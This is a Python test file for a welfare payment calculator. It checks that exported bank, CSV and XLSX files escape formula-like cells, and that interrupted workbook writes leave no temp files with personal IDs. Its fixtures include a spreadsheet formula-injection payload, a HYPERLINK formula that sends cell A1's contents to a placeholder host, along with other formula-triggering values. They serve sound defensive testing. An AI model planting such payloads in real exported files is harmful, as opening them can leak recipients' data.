"""Issue 30: personal data in what the writers leave behind and in what the bank opens. A name like
=HYPERLINK(...) or an account like =1+1 reaches every CSV, TXT and XLSX as text; an interrupted
`report --xlsx` leaves no temp file with full IDs, and a killed one's are removed by the next."""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
import time
from decimal import Decimal

import openpyxl
import pytest

from calc_helpers import STANDARDS, make_id, put_figures, write_scheme

A, B = make_id("140105", "19600101", "001"), make_id("140105", "19600101", "002")
EVIL_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'
# 2024-01 under scheme "t": food 106.5 -> 6.5%; 140105 -> 140100 urban 870: 870 x 6.5% = 56.55 -> 57 each
ROSTER = (f"person_id,name,category,region_code,bank_account\n{A},\"{EVIL_NAME.replace(chr(34), chr(34) * 2)}\",urban_dibao,140105,=1+1\n"
          f"{B},@李四,urban_dibao,140105,6228480012345678902\n")


@pytest.fixture
def run(cli, home, tmp_path):
    sch = write_scheme(tmp_path)
    put_figures(home, "2024-01", cpi="103.6", food="106.5")
    std = tmp_path / "standards.csv"
    std.write_text(STANDARDS, encoding="utf-8")
    roster = tmp_path / "roster.csv"
    roster.write_text(ROSTER, encoding="utf-8")
    out = tmp_path / "run"
    r = cli("calc", "--month", "2024-01", "--roster", roster, "--standards", std, "--scheme", sch, "--out", out)
    assert r.exit_code == 0, r.stderr
    return out


@pytest.mark.parametrize("template", ["generic-csv", "generic-txt"])
def test_formula_like_names_and_accounts_are_text_in_the_bank_file(cli, run, tmp_path, template):
    from cpi_link.outputs.bank import find_template, load_template

    tpl = load_template(find_template(template, None))
    out = tmp_path / "bank.out"
    r = cli("report", run, "--bank", template, "--bank-out", out)
    assert r.exit_code == 0, r.stderr
    text = out.read_bytes().decode(tpl.encoding)
    rows = (list(csv.reader(io.StringIO(text, newline=""), delimiter=tpl.delimiter)) if tpl.format == "csv"
            else [line.split(tpl.delimiter) for line in text.splitlines()])
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")], cells  # nothing a spreadsheet would run
    if any(c.field == "name" for c in tpl.columns):
        assert "'" + EVIL_NAME in cells and "'@李四" in cells
    assert "'=1+1" in cells and "6228480012345678902" in cells  # a real account's digits unchanged
    amounts = [c for c in cells if c in ("57.00", "5700")]
    assert len(amounts) == 2  # 870 x 6.5% = 56.55 -> 57 yuan each


def test_formula_like_cells_in_the_xlsx_bank_file_are_quoted_text(cli, run, tmp_path):
    out = tmp_path / "bank.xlsx"
    r = cli("report", run, "--bank", "generic-xlsx", "--bank-out", out)
    assert r.exit_code == 0, r.stderr
    ws = openpyxl.load_workbook(out).active
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert cells["=1+1"].data_type == "s" and cells["=1+1"].quotePrefix
    assert cells["6228480012345678902"].data_type == "s"


def test_the_csv_every_command_writes_uses_the_same_rule():
    from cpi_link.cli.common import _csv_cell

    assert [_csv_cell(v) for v in ("=1+1", "+86 10", "-12.50", "@x", "\tx", "6228480012345678902", "-")] == \
        ["'=1+1", "'+86 10", "-12.50", "'@x", "'\tx", "6228480012345678902", "'-"]


TRICKY = ["=1+1", "+86 10", "-12.50", "+3", "-3.", "-1e5", "-inf", "-NaN", "-", "+", "@x", "\tx", "\rx", "\nx", "", "x=1",
          "李=", "－12", "6228480012345678902", None, "-0.01", "--1", "-12.50 ", " -1"]


@pytest.mark.parametrize("kind", ["string", "large_string", "sliced", "dictionary", "chunked"])
def test_the_vectorised_check_gives_what_formula_like_gives_value_by_value(kind):
    """core.cells.formula_like_mask (the streamed CSV writer's check) agrees with formula_like on every
    value, nulls false, whatever the array's layout."""
    import pyarrow as pa

    from cpi_link.core.cells import formula_like, formula_like_mask

    want = [v is not None and formula_like(v) for v in TRICKY]
    arr = pa.array(["pad", "=pad"] + TRICKY, pa.large_string() if kind == "large_string" else pa.string())
    arr = arr.slice(2)  # an offset into the buffers, as a batch of a larger table has
    if kind == "dictionary":
        arr = arr.dictionary_encode()
    if kind == "chunked":
        arr = pa.chunked_array([arr.slice(0, 5), arr.slice(5)])
    assert formula_like_mask(arr).tolist() == want
    assert want.count(True) == 11  # =1+1, +86 10, -inf, -NaN, -, +, @x, tab, CR, LF and --1 start a formula


@pytest.mark.parametrize("kind", ["string", "dictionary", "chunked"])
def test_the_vectorised_check_of_a_column_of_nulls_is_all_false(kind):
    """A column with no value (a batch of nulls; its dictionary empty) is all false, not an IndexError."""
    import pyarrow as pa

    from cpi_link.core.cells import formula_like_mask

    arr = pa.nulls(3, pa.string())
    if kind == "dictionary":
        arr = arr.dictionary_encode()
        assert len(arr.dictionary) == 0
    if kind == "chunked":
        arr = pa.chunked_array([arr.dictionary_encode(), pa.array(["=x"]).dictionary_encode()])
    assert formula_like_mask(arr).tolist() == [False, False, False] + ([True] if kind == "chunked" else [])


def test_the_streamed_csv_writes_a_cell_as_emit_csv_does(capsysbinary):
    """The writer of large CSVs (diff, ledger export) and emit_csv give the same bytes, formula-like
    cells (a tab or line break first too) and amounts alike."""
    import pyarrow as pa

    from cpi_link.cli.common import emit_csv, emit_csv_batches

    vals = [v for v in TRICKY if v is not None]
    emit_csv([{"v": v} for v in vals], ["v"])
    plain = capsysbinary.readouterr().out
    emit_csv_batches([{"v": pa.array(vals[:7])}, {"v": pa.array(vals[7:])}], ["v"])
    assert capsysbinary.readouterr().out == plain
    assert b"'\tx" in plain and b"\n-12.50\n" in plain


def _report_xlsx(run, dest, home):
    env = dict(os.environ, CPI_LINK_HOME=str(home))
    return subprocess.Popen([sys.executable, "-m", "cpi_link", "report", str(run), "--xlsx", str(dest)], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)


def _wait_for_scratch(p, folder):
    while p.poll() is None:
        if any(x.name.startswith(".tmp-write-") for x in folder.iterdir()):
            return True
        time.sleep(0.002)
    return False


@pytest.fixture
def big_run(home, tmp_path):
    """A 20,000-row run folder, so the workbook takes a while to write."""
    import subprocess as sp

    sch = write_scheme(tmp_path)
    put_figures(home, "2024-01", cpi="103.6", food="106.5")
    std = tmp_path / "standards.csv"
    std.write_text(STANDARDS, encoding="utf-8")
    roster = tmp_path / "big.csv"
    with roster.open("w", encoding="utf-8") as fh:
        fh.write("person_id,name,category,region_code\n")
        for i in range(20000):
            fh.write(f"{_id(i)},人{i},urban_dibao,140105\n")
    out = tmp_path / "big"
    r = sp.run([sys.executable, "-m", "cpi_link", "calc", "--month", "2024-01", "--roster", str(roster), "--standards", str(std),
                "--scheme", str(sch), "--out", str(out)], env=dict(os.environ, CPI_LINK_HOME=str(home)), capture_output=True,
               text=True, timeout=300)
    assert r.returncode == 0, r.stderr
    return out


def _id(i: int) -> str:
    return make_id("140105", f"{1940 + i // 1000:04d}0101", f"{i % 1000:03d}")  # 20,000 distinct valid IDs


def test_sigterm_during_report_xlsx_leaves_no_temp_file(big_run, home, tmp_path):
    dest_dir = tmp_path / "desk"
    dest_dir.mkdir()
    p = _report_xlsx(big_run, dest_dir / "发放花名册.xlsx", home)
    assert _wait_for_scratch(p, dest_dir), p.communicate()
    time.sleep(0.2)
    p.send_signal(signal.SIGTERM)
    out, err = p.communicate(timeout=120)
    assert p.returncode in (130, 0), err
    left = sorted(x.name for x in dest_dir.iterdir())
    assert left in ([], ["发放花名册.xlsx"]), left  # whole or absent, and nothing beside it


def test_killed_report_xlsx_scratch_is_private_and_removed_by_the_next(big_run, home, tmp_path):
    dest_dir = tmp_path / "desk"
    dest_dir.mkdir()
    p = _report_xlsx(big_run, dest_dir / "wb.xlsx", home)
    assert _wait_for_scratch(p, dest_dir), p.communicate()
    time.sleep(0.2)
    p.kill()
    p.communicate(timeout=60)
    scratch = [x for x in dest_dir.iterdir() if x.name.startswith(".tmp-write-")]
    if scratch:  # a SIGKILL cannot be cleaned up after: the folder is private, and the next writer removes it
        assert all(x.stat().st_mode & 0o777 == 0o700 for x in scratch)
    p = _report_xlsx(big_run, dest_dir / "wb.xlsx", home)
    out, err = p.communicate(timeout=300)
    assert p.returncode == 0, err
    assert sorted(x.name for x in dest_dir.iterdir()) == ["wb.xlsx"]
